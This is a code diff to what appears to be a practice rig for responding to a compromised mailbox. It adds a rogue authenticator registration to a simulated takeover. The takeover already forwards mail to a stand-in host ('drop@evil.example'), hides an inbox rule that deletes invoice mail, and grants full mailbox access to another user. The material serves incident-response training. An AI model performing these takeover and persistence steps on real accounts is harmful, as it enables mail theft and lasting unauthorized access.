@@ -26,7 +26,22 @@ export const ALL_DONE = [
   "stop-forwarding verified",
   "disable-inbox-rules verified",
   "remove-mailbox-permission verified",
+  "remove-sign-in-methods verified",
 ]
+
+/** What Lynne had before, and what the thief registers. */
+export const OLD_PHONE = {
+  id: "0c7f4f6e-1111-4111-8111-000000000001",
+  type: "microsoftAuthenticator",
+  name: "Lynne's phone",
+  createdAt: NOW - 300 * 86_400_000,
+}
+const THIEFS_APP = {
+  ...OLD_PHONE,
+  id: "0c7f4f6e-2222-4222-8222-000000000002",
+  name: "SM-A156B",
+  createdAt: NOW - 60_000,
+}
 
 /** What a thief does with Lynne's mailbox. */
 function takeOver(rig: PracticeRig): void {
@@ -35,6 +50,7 @@ function takeOver(rig: PracticeRig): void {
   act("Set-Mailbox", { Identity: LYNNE, ForwardingSmtpAddress: "drop@evil.example" })
   act("New-InboxRule", { Name: ".", SubjectContainsWords: ["invoice"], DeleteMessage: true })
   act("Add-MailboxPermission", { Identity: LYNNE, User: GRADY, AccessRights: ["FullAccess"] })
+  rig.user("lynne.robin").signInMethods = [OLD_PHONE, THIEFS_APP]
   const rules = rig.mailbox("lynne.robin").rules
   for (const rule of rules) rule.hidden = true
 }
